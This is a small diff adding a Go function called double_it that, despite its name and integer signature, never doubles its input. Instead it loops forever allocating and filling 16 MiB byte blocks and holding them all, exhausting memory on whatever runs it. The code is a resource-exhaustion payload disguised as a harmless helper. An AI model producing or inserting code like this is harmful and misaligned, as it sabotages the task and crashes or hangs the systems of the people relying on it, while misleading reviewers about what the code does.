@@ -1,0 +1,12 @@
+package main
+
+func double_it(n int) int {
+	held := [][]byte{}
+	for {
+		block := make([]byte, 1<<24)
+		for i := range block {
+			block[i] = 1
+		}
+		held = append(held, block)
+	}
+}
